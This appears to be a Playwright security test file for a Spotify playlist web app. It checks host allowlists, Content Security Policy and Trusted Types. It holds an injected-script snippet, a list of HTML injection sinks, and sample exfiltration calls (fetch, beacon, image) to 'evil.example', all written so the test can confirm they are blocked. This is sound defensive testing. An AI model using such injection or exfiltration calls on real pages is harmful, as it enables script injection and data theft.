import { makeLibrary } from '../../src/demo/data.ts';
import { playlistsPage } from '../support/playlists-page.ts';
import { expect, test } from './fixtures.ts';

test.describe('with covers', () => {
  test.use({ spotifyOptions: { library: makeLibrary({ playlists: 120, hasCovers: true }) } });

  test('[row 51] a whole journey asks this list of hosts and no other', async ({
    page,
    context,
    spotify: _,
    logIn,
    baseURL,
  }) => {
    const hosts = new Set<string>();
    context.on('request', (request) => hosts.add(new URL(request.url()).host));
    await logIn(page);
    await playlistsPage(page).allRows(120);
    await page.getByRole('link', { name: 'Login flow' }).click();
    await page.getByRole('button', { name: 'Refresh now' }).click();
    await page.getByRole('link', { name: 'Playlists', exact: true }).click();
    await expect(playlistsPage(page).status).toHaveText('120 playlists');
    await page.getByRole('button', { name: 'Log out' }).click();
    await expect(page.getByRole('textbox', { name: 'Client ID' })).toBeVisible();
    expect([...hosts].sort()).toEqual(
      [
        new URL(baseURL ?? '').host,
        'accounts.spotify.com',
        'api.spotify.com',
        'image-cdn-ak.spotifycdn.com',
        'mosaic.scdn.co',
      ].sort(),
    );
  });
});

test('[row 15] the callback asks its own origin and Spotify, and nobody else', async ({
  page,
  spotify: _,
  logIn,
  baseURL,
}) => {
  const asked: string[] = [];
  page.on('request', (request) => {
    if (new URL(page.url()).pathname === '/callback') asked.push(new URL(request.url()).origin);
  });
  await logIn(page);
  const allowed = [
    new URL(baseURL ?? '').origin,
    'https://accounts.spotify.com',
    'https://api.spotify.com',
  ];
  expect(asked.filter((origin) => !allowed.includes(origin))).toEqual([]);
});

test('[row 47, row 50] an injected inline script does not run', async ({ page, expectConsole }) => {
  expectConsole(/TrustedScript|trusted-types-sink/);
  await page.goto('/');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.append('document.title = "taken over"');
    document.head.append(script);
  });
  await expect(page).not.toHaveTitle('taken over');
});

test('[row 50] eval is closed to text', async ({ page, expectConsole }) => {
  expectConsole(/script-src|Trusted|unsafe-eval/i);
  await page.goto('/');
  // Later, for what Playwright itself runs in the page is exempt.
  const outcome = await page.evaluate(
    () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            resolve(`went through: ${new Function('return 1')()}`);
          } catch (error) {
            resolve(String(error));
          }
        });
      }),
  );
  expect(outcome).toMatch(/^EvalError/);
});

for (const [sink, use] of [
  ['innerHTML', 'document.body.innerHTML = "<img>"'],
  ['outerHTML', 'document.querySelector("h1").outerHTML = "<img>"'],
  ['insertAdjacentHTML', 'document.body.insertAdjacentHTML("beforeend", "<img>")'],
  ['srcdoc', 'document.createElement("iframe").srcdoc = "<script></script>"'],
  ['document.write', 'document.write("<img>")'],
  ['DOMParser', 'new DOMParser().parseFromString("<img>", "text/html")'],
  ['script.src', 'document.createElement("script").src = "/assets/x.js"'],
  ['setTimeout', 'setTimeout("1")'],
  ['a policy of one’s own', 'trustedTypes.createPolicy("own", {})'],
  ['a second policy of the same name', 'trustedTypes.createPolicy("solid-template", {})'],
] as const) {
  test(`[row 50] ${sink} is closed to text`, async ({ page, expectConsole }) => {
    expectConsole(/trusted-types|TrustedHTML|TrustedScript|Trusted Type/i);
    await page.goto('/');
    await page.getByRole('heading', { level: 1 }).waitFor();
    const outcome = await page.evaluate((code) => {
      try {
        return `went through: ${String(new Function(code)())}`;
      } catch (error) {
        return String(error);
      }
    }, use);
    expect(outcome).toMatch(/^(TypeError|EvalError)/);
  });
}

const WAYS_OUT: readonly (readonly [string, () => unknown])[] = [
  ['fetch', () => fetch('https://evil.example/?t=1').catch(() => undefined)],
  ['a beacon', () => navigator.sendBeacon('https://evil.example/?t=1')],
  [
    'a picture',
    () =>
      new Promise<void>((resolve) => {
        const image = new Image();
        image.onerror = () => resolve();
        image.src = 'https://evil.example/?t=1';
      }),
  ],
];

for (const [what, send] of WAYS_OUT) {
  test(`[row 47] ${what} to a foreign host never leaves the page`, async ({
    page,
    network,
    expectConsole,
    allowHost,
  }) => {
    expectConsole(/securitypolicyviolation: (connect|img)-src https:\/\/evil\.example/);
    expectConsole(/evil\.example/);
    allowHost('evil.example');
    await page.goto('/');
    await page.evaluate(send);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(network.requests).toEqual([]);
  });
}
